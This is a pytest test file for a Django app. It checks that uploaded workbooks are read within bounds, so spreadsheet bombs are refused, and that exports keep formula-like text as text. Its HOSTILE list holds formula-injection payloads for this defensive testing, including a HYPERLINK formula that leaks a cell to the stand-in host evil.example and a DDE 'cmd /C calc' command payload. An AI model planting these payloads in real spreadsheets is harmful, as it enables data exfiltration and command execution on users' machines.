"""Uploaded workbooks are read within bounds (a spreadsheet bomb is refused in seconds, with
a clear message) and every workbook written keeps formula-like text as text."""

import io
import re
import time
import zipfile
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from tests.conftest import make_member
from tests.reports.helpers import content, export
from vanguard.core.exports import Sheet, write_sheets
from vanguard.orgs import excel as org_excel
from vanguard.orgs.excel import WorkbookError
from vanguard.reports import sheets
from vanguard.study import quiz
from vanguard.surveys import frames

READERS = {
    "members": lambda file, scope: org_excel.import_workbook(file, scope, dry_run=True),
    "frames": lambda file, scope: frames.read_frame(file),
    "quiz": lambda file, scope: quiz.read_questions(file),
}
HEADERS = {
    "members": (org_excel.MEMBER_SHEET, org_excel.MEMBER_HEADERS),
    "frames": (frames.SHEET, frames.HEADERS),
    "quiz": (quiz.SHEET, quiz.HEADERS),
}


def bomb(reader: str, *, declared: str | None = None) -> io.BytesIO:
    """A workbook of a few KB: the reader's header row and one cell at XFD1048576.

    With `declared`, the sheet's <dimension> claims that range instead (a lie)."""
    title, headers = HEADERS[reader]
    book = Workbook()
    sheet = book.active
    sheet.title = title
    sheet.append(list(headers))
    sheet["XFD1048576"] = "x"
    raw = io.BytesIO()
    book.save(raw)
    if declared is None:
        raw.seek(0)
        return raw
    source = zipfile.ZipFile(io.BytesIO(raw.getvalue()))
    lying = io.BytesIO()
    with zipfile.ZipFile(lying, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename.startswith("xl/worksheets/"):
                data = re.sub(
                    rb'<dimension ref="[^"]*"', f'<dimension ref="{declared}"'.encode(), data
                )
            target.writestr(info, data)
    lying.seek(0)
    return lying


@pytest.fixture
def office_scope(personas):
    from vanguard.accounts.access import Scope

    return Scope.for_user(personas["office"])


@pytest.mark.parametrize("reader", list(READERS))
@pytest.mark.parametrize("declared", [None, "A1:C2"])
def test_a_spreadsheet_bomb_is_refused_fast_with_a_clear_message(
    reader, declared, office_scope, settings
):
    settings.LANGUAGE_CODE = "zh-hans"
    file = bomb(reader, declared=declared)
    assert len(file.getvalue()) < 10_000

    started = time.monotonic()
    with pytest.raises(WorkbookError) as refused:
        READERS[reader](file, office_scope)
    elapsed = time.monotonic() - started

    assert elapsed < 5
    message = str(refused.value)
    assert "行" in message or "列" in message  # said in Chinese: too many rows or columns


def test_rows_past_the_limit_are_refused_not_dropped():
    book = Workbook()
    for number in range(1, 8):
        book.active.append([number])
    raw = io.BytesIO()
    book.save(raw)
    raw.seek(0)
    workbook = sheets.load_bounded(raw)
    sheet = workbook.worksheets[0]
    sheet.reset_dimensions()  # as if the file declared none: the bound holds all the same
    rows = sheets.bounded_rows(sheet, sheets.Bounds(rows=5))
    with pytest.raises(sheets.SheetRefused):
        list(rows)
    assert len(list(sheets.bounded_rows(sheet, sheets.Bounds(rows=6)))) == 7


def test_a_workbook_unpacking_too_large_is_refused(monkeypatch):
    monkeypatch.setattr(sheets, "MAX_UNPACKED_MB", 0)
    raw = io.BytesIO()
    Workbook().save(raw)
    with pytest.raises(sheets.SheetRefused):
        sheets.load_bounded(raw)


def test_the_time_budget_stops_a_slow_read():
    book = Workbook()
    for number in range(10):
        book.active.append([number])
    raw = io.BytesIO()
    book.save(raw)
    raw.seek(0)
    sheet = sheets.load_bounded(raw).worksheets[0]
    with pytest.raises(sheets.SheetRefused):
        list(sheets.bounded_rows(sheet, sheets.Bounds(rows=100, seconds=-1)))


def test_empty_rows_keep_the_numbering_and_trailing_ones_are_dropped():
    book = Workbook()
    book.active["A1"] = "header"
    book.active["A4"] = "row four"
    book.active["A6"] = None
    book.active["B9"] = None  # formatted, empty
    raw = io.BytesIO()
    book.save(raw)
    raw.seek(0)
    sheet = sheets.load_bounded(raw).worksheets[0]
    rows = list(sheets.bounded_rows(sheet, sheets.Bounds(rows=20)))
    assert [row[:1] for row in rows] == [("header",), (), (), ("row four",)]


# -- formula injection --------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"详情")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_the_one_renderer_writes_formula_like_text_as_text():
    raw = io.BytesIO()
    write_sheets(raw, [Sheet("意见", ["=HEADER()"], [[value, 3, None] for value in HOSTILE])])
    cells = _cells(raw.getvalue())
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    # (a carriage return comes back as itself or as a line feed, by the openpyxl version)
    texts = [cell.value.replace("\r", "\n") for cell in cells if isinstance(cell.value, str)]
    assert texts == ["'=HEADER()", *("'" + value.replace("\r", "\n") for value in HOSTILE)]
    assert [cell.value for cell in cells if isinstance(cell.value, int)] == [3] * len(HOSTILE)


def test_a_public_opinion_formula_arrives_as_text_in_the_office_export(
    client, login, personas, enrollments, tree
):
    formula = HOSTILE[0]
    client.post(
        reverse("appraisal:public-opinion"),
        {"channel": "online", "subject": "unit", "unit": tree["A"].pk, "content": formula},
    )
    campaign = enrollments["A"].campaign
    response = export(
        login(personas["office"]), reverse("appraisal:opinions-export", args=[campaign.pk])
    )
    cells = _cells(content(response))
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert "'" + formula in [cell.value for cell in cells]


def test_the_member_export_writes_formula_like_text_as_text(login, personas, tree):
    make_member(tree["A1"], "A1-666", "=1+1", position="@cmd")
    response = export(login(personas["office"]), reverse("orgs:export"))
    cells = _cells(content(response))
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert {"'=1+1", "'@cmd"} <= {cell.value for cell in cells}


WRITERS_ALLOWED = {
    # the one renderer and the member export write through `sheets.safe_value`
    "vanguard/core/exports.py",
    "vanguard/orgs/excel.py",
    # blank templates and the demo's quiz file: fixed text of our own, no user input
    "vanguard/surveys/frames.py",
    "vanguard/study/quiz.py",
    "vanguard/study/demo.py",
}


def test_every_workbook_is_written_by_a_known_writer():
    """Every other export yields rows to `core.exports` (which neutralises them): a new
    module creating its own openpyxl Workbook must be added here after review."""
    root = Path(__file__).resolve().parents[2]
    writers = {
        str(path.relative_to(root))
        for path in (root / "vanguard").rglob("*.py")
        if re.search(r"\bWorkbook\(|WriteOnlyCell\(", path.read_text(encoding="utf-8"))
    }
    assert writers == WRITERS_ALLOWED
